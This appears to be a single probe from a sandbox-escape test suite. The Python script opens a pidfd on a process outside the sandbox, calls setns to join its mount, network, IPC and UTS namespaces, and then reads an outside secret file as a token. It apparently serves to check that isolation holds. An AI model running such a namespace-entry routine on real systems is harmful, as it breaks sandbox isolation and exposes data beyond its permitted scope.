# Enters all namespaces of a process outside.
# control: root-only
# needs: outside
from escape import *
pidfd = syscall(434, int(E["OUTSIDE_VICTIM"]), 0)
if pidfd < 0:
    held(name(pidfd))
result = syscall(308, pidfd, 0x20000 | 0x40000000 | 0x08000000 | 0x04000000)
if result < 0:
    held(name(result))
token_in(open(E["OUTSIDE_SECRET"]).read(), "the namespaces of a process outside")
